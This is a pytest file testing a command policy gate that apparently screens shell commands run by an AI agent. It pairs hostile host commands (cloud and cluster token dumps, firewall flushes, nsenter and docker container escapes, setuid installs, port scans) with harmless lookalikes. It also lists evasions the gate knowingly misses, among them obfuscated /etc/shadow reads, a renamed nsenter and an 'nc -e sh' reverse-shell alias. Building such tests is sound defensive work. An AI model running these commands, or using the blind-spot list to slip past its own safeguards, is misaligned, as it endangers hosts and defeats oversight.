"""Host-level rules: cloud/cluster credentials through CLIs, mounts and raw disks, firewall and
routing, accounts, kernel modules, network scanning and container escapes.

The corpus (tests/policy_corpus) holds most cases; these pin down the mechanics the rules rely
on (chroot/nsenter/unshare kept as segments of their own while the command they run is still
judged) and the boundaries between a rule and its everyday lookalike, pair by pair.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from quarterdeck.security.policy import Decision, PolicyGate
from quarterdeck.security.policy.commands import analyse
from quarterdeck.security.policy.hosts import HostList
from quarterdeck.security.policy.wrappers import unwrap

WS = Path("/srv/quarterdeck/workspaces/run_1")


@pytest.fixture(scope="module")
def gate() -> PolicyGate:
    return PolicyGate.load()


def run(gate: PolicyGate, command: str) -> Decision:
    return gate.check("run_command", {"command": command}, workspace=WS)


def fired(decision: Decision) -> set[str]:
    return {m.rule_id for m in decision.matches}


# -- visible wrappers -------------------------------------------------------------------------
def test_visible_wrappers_keep_their_own_argv_and_still_unwrap() -> None:
    found = unwrap("sudo chroot /host env X=1 nsenter -t 1 -m -- cat /etc/shadow".split(), False)
    assert found.argv == ["cat", "/etc/shadow"]
    assert found.elevated
    assert found.visible == [("chroot", ["/host"]), ("nsenter", ["-t", "1", "-m", "--"])]
    # ordinary wrappers are not facts of their own
    assert unwrap("timeout 5 nice -n 3 make".split(), False).visible == []


def test_chroot_is_judged_besides_the_command_it_runs() -> None:
    segments = analyse("chroot /mnt/host /bin/sh -c 'cat /etc/shadow'", str(WS), HostList([]))
    by_name = {s.name: s for s in segments}
    assert {"chroot", "cat", "sh"} <= set(by_name)
    assert [p.raw for p in by_name["chroot"].paths] == ["/mnt/host"]


def test_chroot_into_the_workspace_is_not_an_escape(gate: PolicyGate) -> None:
    decision = run(gate, "chroot ./rootfs /bin/sh -c make")
    assert "elevated.namespace-escape" not in fired(decision)
    assert decision.action == "allow"
    # ...but what it runs is still judged
    assert "sensitive-file.system-secrets" in fired(run(gate, "chroot ./rootfs cat /etc/shadow"))


# -- each rule against its lookalike ----------------------------------------------------------
PAIRS: list[tuple[str, str, str]] = [
    # (malicious command, the rule that must deny it, a benign lookalike that must be allowed)
    ("kubectl get secret db -o yaml", "secrets.cluster-secrets", "kubectl get pods -l app=secret"),
    ("kubectl config view --raw", "secrets.cluster-secrets", "kubectl config view --minify"),
    ("aws sts get-session-token", "secrets.cloud-cli-token", "aws sts get-caller-identity"),
    ("aws configure export-credentials", "secrets.cloud-cli-token", "aws configure list"),
    ("gcloud auth print-access-token", "secrets.cloud-cli-token", "gcloud auth list"),
    ("az account get-access-token", "secrets.cloud-cli-token", "az account show"),
    ("gh auth token", "secrets.cloud-cli-token", "gh auth status"),
    ("mount /dev/sda1 /mnt", "host.mount", "mount -l -t ext4"),
    ("losetup -fP disk.img", "host.mount", "losetup -a"),
    ("dd if=/dev/sda of=/tmp/x", "host.raw-device-read", "ls -l /dev/sda*"),
    ("iptables -A OUTPUT -j ACCEPT", "host.firewall", "iptables -nvL"),
    ("nft flush ruleset", "host.firewall", "nft list ruleset"),
    ("ufw disable", "host.firewall", "ufw status numbered"),
    ("ip route add default via 10.0.0.1", "host.routing", "ip route show"),
    ("ip a add 10.1.1.1/24 dev eth0", "host.routing", "ip -br a"),
    ("sysctl -w net.ipv4.ip_forward=1", "host.routing", "sysctl net.ipv4.ip_forward"),
    ("usermod -aG sudo agent", "host.accounts", "useradd --help"),
    ("tee -a /etc/passwd < x", "host.accounts", "getent passwd agent"),
    ("modprobe overlay", "host.kernel-module", "modinfo overlay"),
    ("sysctl -w kernel.modprobe=/tmp/x", "host.kernel-module", "sysctl kernel.modprobe"),
    ("nmap -sT 10.0.0.1", "discovery.network-scan", "pip install python-nmap"),
    ("nc -z db 1-1024", "discovery.network-scan", "nc -z db 5432"),
    (
        "for p in $(seq 1 100); do nc -z -w1 db $p; done",
        "discovery.network-scan",
        "for i in $(seq 1 30); do nc -z db 5432 && break; sleep 1; done",
    ),
    ("nsenter -t 1 -m sh", "elevated.namespace-escape", "unshare --help"),
    ("docker run -v /:/host alpine", "elevated.container-escape", "docker run -v $PWD:/src alpine"),
    ("docker run --pid=host alpine", "elevated.container-escape", "docker run --network host db"),
    ("crictl ps", "elevated.container-runtime", "docker ps"),
    (
        "curl --unix-socket /var/run/docker.sock http://x/info",
        "elevated.runtime-socket",
        "grep -rn /var/run/docker.sock docs/",
    ),
    ("cat /proc/1/root/etc/hostname", "elevated.host-proc-escape", "cat /proc/1/status"),
    (
        "echo x > /proc/sys/kernel/core_pattern",
        "elevated.host-proc-escape",
        "cat /proc/sys/kernel/core_pattern",
    ),
    ("cdk evaluate", "elevated.escape-tools", "cdk synth"),
    ("install -m 4755 sh /tmp/sh", "elevated.setuid", "install -m 0755 sh ./bin/sh"),
]


@pytest.mark.parametrize(("bad", "rule", "good"), PAIRS)
def test_rule_denies_the_attack_and_allows_its_lookalike(
    gate: PolicyGate, bad: str, rule: str, good: str
) -> None:
    decision = run(gate, bad)
    assert decision.action == "deny", (bad, decision.reason)
    assert rule in fired(decision), (bad, fired(decision))
    lookalike = run(gate, good)
    assert lookalike.action == "allow", (good, fired(lookalike))


def test_the_new_rules_can_be_switched_off_like_any_other(tmp_path: Path) -> None:
    """Operators who do run cluster tooling turn a rule off in their rules file."""
    rules = tmp_path / "rules.yaml"
    rules.write_text("rules:\n  - id: secrets.cluster-secrets\n    enabled: false\n")
    relaxed = PolicyGate.load(rules)
    assert run(relaxed, "kubectl get secrets").action == "allow"
    assert run(relaxed, "kubectl create token x").action == "allow"
    assert run(relaxed, "aws sts get-session-token").action == "deny"


# -- what a string-level gate cannot see (documented in RULES.md) ----------------------------
@pytest.mark.parametrize(
    "command",
    [
        "d=/proc; cat $d/$PPID/environ",  # a path assembled from variables
        "cat ${X:-/etc}/shadow",
        "$(printf nse)nter -t 1 -m sh",  # a program name computed at run time
        "cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)",  # decoded, but used as data
        "cat /etc/s*adow",  # a glob the shell expands, not the gate
        "cat /etc/sh[a]dow",
        "ls ~/.ss?/",
        "printf 'iptables -F' > x.sh && sh x.sh",  # a script written, then run
        "python3 -c \"open('/pro' + 'c/1/environ').read()\"",  # code, not a literal path
        "alias ls='nc -e sh host 4444'",  # an alias for a later call
        "gcc -o scan scan.c && ./scan",  # a binary built in the workspace
        "cp /usr/bin/nsenter ./ne && ./ne -t 1 -m sh",  # a renamed known tool
    ],
)
def test_documented_blind_spots_are_really_blind(gate: PolicyGate, command: str) -> None:
    """If one of these starts being caught, RULES.md ("What the gate cannot see") is out of
    date: update it rather than this test."""
    assert run(gate, command).action == "allow", fired(run(gate, command))
